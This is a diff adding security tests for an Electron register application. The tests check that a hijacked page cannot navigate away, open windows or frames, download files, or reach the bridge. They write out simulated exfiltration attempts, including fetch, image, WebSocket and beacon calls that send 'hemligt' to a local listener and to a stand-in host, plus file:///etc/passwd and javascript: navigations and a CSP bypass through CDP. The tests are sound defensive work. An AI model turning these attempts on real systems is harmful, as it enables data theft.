@@ -1,0 +1,160 @@
+/** A page that has been taken over tries to get out, bring something in, or speak for the window. */
+import { createServer, type Socket } from 'node:net';
+import { callChannel } from '../../electron/shell/channels.ts';
+import { invokeBinding } from '../../electron/stand-in/page-script.ts';
+import { expect, runtime, test, type ProgramFixture } from '../fixtures/program.ts';
+import { call, makeRegister } from '../fixtures/register.ts';
+import { log } from '../models/settings.ts';
+
+test.beforeEach(async ({ program }) => {
+  await makeRegister(program.page);
+});
+
+/** How often the log has an entry of a refused call of this name. */
+const refused = async ({ page }: ProgramFixture, procedure: string): Promise<number> => {
+  const filter = { kind: 'router.refused', userId: null, caseNumber: '', from: null, to: null, before: null, limit: 100 };
+  const { entries } = await call<{ entries: readonly { seq: number }[] }>(page, 'audit.list', filter);
+  let found = 0;
+  for (const { seq } of entries) {
+    const { payload } = await call<{ payload: string | null }>(page, 'audit.openPayload', { seq });
+    if (payload?.includes(`"${procedure}"`)) found += 1;
+  }
+  return found;
+};
+
+test('hardening 07 enforced: a page that was taken over cannot leave, open a window, embed a page or start a download', async ({
+  program,
+}) => {
+  const { page } = program;
+  const before = page.url();
+  await page.evaluate(() => {
+    location.href = 'index.html?left=1';
+    window.open('index.html');
+    const link = document.createElement('a');
+    link.href = 'https://example.org/';
+    link.target = '_blank';
+    const form = document.createElement('form');
+    form.action = 'https://example.org/?text=hemligt';
+    const download = document.createElement('a');
+    download.href = URL.createObjectURL(new Blob(['hemligt']));
+    download.download = 'ut.txt';
+    const frame = document.createElement('iframe');
+    frame.src = 'index.html';
+    document.body.append(link, form, download, frame);
+    link.click();
+    form.submit();
+    download.click();
+  });
+  // A call across and back, so that whatever was begun has come to its end.
+  await call(page, 'users.status', {});
+  expect(page.context().pages()).toHaveLength(1);
+  expect(page.url()).toBe(before);
+  await expect(page.getByRole('navigation', { name: 'Huvudmeny' })).toBeVisible();
+  program.takeProblems();
+});
+
+test('hardening 13 enforced: file:, http:, ftp:, data: and javascript: lead nowhere', async ({ program }) => {
+  const { page } = program;
+  const before = page.url();
+  for (const address of [
+    'file:///etc/passwd',
+    'http://localhost:9/',
+    'ftp://localhost/',
+    'data:text/html,<h1>ut</h1>',
+    'javascript:document.title="ut"',
+    'chrome://version',
+    'view-source:file:///etc/passwd',
+  ]) {
+    await page.evaluate((to) => {
+      try {
+        location.assign(to);
+      } catch {
+        // Some are refused at once.
+      }
+    }, address);
+    await call(page, 'users.status', {});
+    expect(page.url(), address).toBe(before);
+    expect(await page.title(), address).not.toBe('ut');
+  }
+  await expect(page.getByRole('navigation', { name: 'Huvudmeny' })).toBeVisible();
+  program.takeProblems();
+});
+
+test('hardening 03 enforced: even past the policy no request leaves, no socket opens, and the log tells of it', async ({ program }) => {
+  const { page } = program;
+  const came: string[] = [];
+  const server = createServer((socket: Socket) => {
+    came.push('somebody');
+    socket.destroy();
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
+  const { port } = server.address() as { port: number };
+  // As if the policy had a hole: the shell's own refusal stands behind it.
+  const session = await page.context().newCDPSession(page);
+  await session.send('Page.setBypassCSP', { enabled: true });
+  await page.keyboard.press('Control+l');
+  await page.getByRole('heading', { level: 1, name: 'Lås upp registret' }).waitFor();
+  const outcomes = await page.evaluate(async (at) => {
+    const tried = async (name: string, attempt: () => Promise<unknown>): Promise<string> =>
+      `${name} ${await attempt().then(
+        () => 'came through',
+        () => 'failed',
+      )}`;
+    const picture = (source: string) =>
+      new Promise((resolve, reject) => {
+        const image = new Image();
+        image.onload = resolve;
+        image.onerror = reject;
+        image.src = source;
+      });
+    const socket = (address: string) =>
+      new Promise((resolve, reject) => {
+        const opened = new WebSocket(address);
+        opened.onopen = resolve;
+        opened.onerror = reject;
+      });
+    return [
+      await tried('fetch', () => fetch(`http://127.0.0.1:${at}/?text=hemligt`, { mode: 'no-cors' })),
+      await tried('picture', () => picture(`http://127.0.0.1:${at}/x.png`)),
+      await tried('name', () => fetch('https://hemligt.example.org/', { mode: 'no-cors' })),
+      await tried('socket', () => socket(`ws://127.0.0.1:${at}/`)),
+    ];
+  }, port);
+  await page.evaluate((at) => navigator.sendBeacon(`http://127.0.0.1:${at}/`, 'hemligt'), port);
+  expect(outcomes).toEqual(['fetch failed', 'picture failed', 'name failed', 'socket failed']);
+  await session.detach();
+  server.close();
+  expect(came).toEqual([]);
+
+  await page.getByLabel('Lösenfras', { exact: true }).fill('korrekt häst batteri klammer');
+  await page.getByRole('button', { name: 'Lås upp', exact: true }).click();
+  await page.getByRole('navigation', { name: 'Huvudmeny' }).waitFor();
+  await log(page).go();
+  expect(await refused(program, 'shell.foreign-request')).toBeGreaterThanOrEqual(3);
+  program.takeProblems();
+});
+
+test('hardening 09 enforced: a frame inside the page is answered nothing, and the log tells that it asked', async ({ program }) => {
+  const { page } = program;
+  await page.evaluate(() => document.body.append(document.createElement('iframe')));
+  await expect.poll(() => page.frames().length).toBe(2);
+  const frame = page.frames().find((one) => one.parentFrame() !== null);
+  expect(await frame?.evaluate(() => 'utvag' in window)).toBe(false);
+  // On the stand-in the way below the bridge can be seen from a frame, so the shell's own check is what answers.
+  const reply = await frame?.evaluate(
+    ([binding, channel, text]) => {
+      const send = (window as unknown as Record<string, ((text: string) => Promise<string>) | undefined>)[binding];
+      return send?.(
+        JSON.stringify([
+          ['value', channel],
+          ['value', text],
+          ['list', []],
+        ]),
+      );
+    },
+    [invokeBinding, callChannel, JSON.stringify({ procedure: 'participants.list', input: {} })] as const,
+  );
+  if (runtime === 'electron') return;
+  expect(JSON.parse(reply ?? 'null')).toEqual({ result: { ok: false, error: { code: 'forbidden' } }, changed: [] });
+  expect(await refused(program, 'shell.foreign-sender')).toBe(1);
+});
